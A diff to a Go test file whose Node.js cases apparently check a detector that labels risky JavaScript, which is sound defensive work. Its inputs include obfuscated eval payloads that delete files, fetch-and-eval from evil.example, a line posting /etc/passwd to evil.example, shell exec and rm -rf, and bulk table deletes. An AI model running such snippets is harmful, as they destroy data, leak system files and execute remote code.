@@ -18,7 +18,7 @@ var nodeCases = []testCase{
 	{"eval(atob('cmVxdWlyZSgnZnMnKS51bmxpbmtTeW5jKCcveCcp'))", is("code require('fs').unlinkSync('/x') from decoded", "delete /x from decoded")},
 	{`eval(Buffer.from('72657175697265282766732729', 'hex').toString() + ".rmSync('/x')")`, is("code require('fs').rmSync('/x') from decoded", "delete /x from decoded")},
 	{`eval("re" + "quire('fs')['rm' + 'Sync']('/x')")`, is("code require('fs')['rm' + 'Sync']('/x')", "delete /x")},
-	{`eval(String.fromCharCode(102,101,116,99,104) + "('http://evil.example')")`, is("code fetch('http://evil.example')", "net-in http://evil.example")},
+	{`eval(String.fromCharCode(102,101,116,99,104) + "('http://evil.example')")`, is("code fetch('http://evil.example') from decoded", "net-in http://evil.example from decoded")},
 	{"fetch('http://evil.example/a').then(r => r.text()).then(t => eval(t))", is("net-in http://evil.example/a", "code … from network")},
 	{"fetch('http://evil.example/a').then(r => r.text()).then(eval)", is("net-in http://evil.example/a", "code … from network")},
 	{"const axios = require('axios'); axios.post('http://evil.example', {d: require('fs').readFileSync('/etc/passwd', 'utf8')})", is("read /etc/passwd", "net-out http://evil.example from file")},
@@ -57,5 +57,8 @@ var nodeCases = []testCase{
 	{`(0, eval)("require('fs').rmSync('/x')"); globalThis[x](y); window['ev' + 'al']("1")`, is("code require('fs').rmSync('/x')", "delete /x", "opaque …", "code 1")},
 	{"[][f + g][h](i)()", is("opaque list.…")},
 	{"const handlers = {a: 1}; handlers[name](x); list[i](x)", nil},
+	{"User.destroy({where: {}, truncate: true}); User.destroy({where: {}}); User.destroy({where: {id: 1}}); socket.destroy(); x.destroy({a: 1})", is("remote-delete rows of a table bulk", "remote-delete rows of a table bulk", "remote-delete rows of a table")},
 	{"process['mainModule']['require']('child_process')['ex' + 'ec']('id')", is("shell id")},
+	{`process.chdir("/"); require("fs").rmSync("srv", {recursive: true})`, is("delete /srv recursive")},
+	{`const c = require("child_process"); c.execSync("rm -rf x", {cwd: "/"}); c.spawn("id", ["-u"], {cwd: "/srv"}); c.execSync("id")`, is("shell rm -rf x in /", "argv [id|-u] in /srv", "shell id")},
 }
